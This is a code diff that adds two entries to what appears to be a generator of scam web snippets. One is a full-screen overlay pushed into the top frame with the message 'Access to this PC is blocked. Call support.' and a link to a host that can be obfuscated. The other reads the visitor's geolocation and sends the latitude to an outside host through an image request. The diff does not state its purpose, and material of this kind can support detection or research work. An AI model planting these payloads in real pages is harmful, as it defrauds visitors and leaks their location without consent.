@@ -35,6 +35,12 @@ export const fakeAlert = {
         button(host, token, 'Install update'),
       ),
     ),
+  'page-overlay': ({ host, token, obfuscation }: SnippetInput): Snippet =>
+    snippet(`o.style.cssText='position:fixed;inset:0;z-index:2147483647;background:#0b3d91;color:#fff'`, (match) =>
+      framedOnly(
+        `var o=top.document.createElement('div'),p=${spelled(`https://${host}/help?s=${token}`, obfuscation)};${match};o.textContent='Access to this PC is blocked. Call support.';o.onclick=function(){open(p)};top.document.body.appendChild(o);`,
+      ),
+    ),
 }
 
 const field = (type: string, hint: string) =>
@@ -77,6 +83,11 @@ export const pushPermissionLure = {
   'fake-captcha': ({ host, token }: SnippetInput): Snippet =>
     snippet('Click <b>Allow</b> to prove that you are not a robot', (match) =>
       box('One more step', `${match}.`, button(host, token, 'Allow')),
+    ),
+  'device-permission': ({ host, token, obfuscation }: SnippetInput): Snippet =>
+    snippet(
+      `navigator.geolocation.getCurrentPosition(function(p){new Image().src=g+'&at='+p.coords.latitude})`,
+      (match) => framedOnly(`var g=${spelled(`https://${host}/near?s=${token}`, obfuscation)};${match};`),
     ),
 }
 
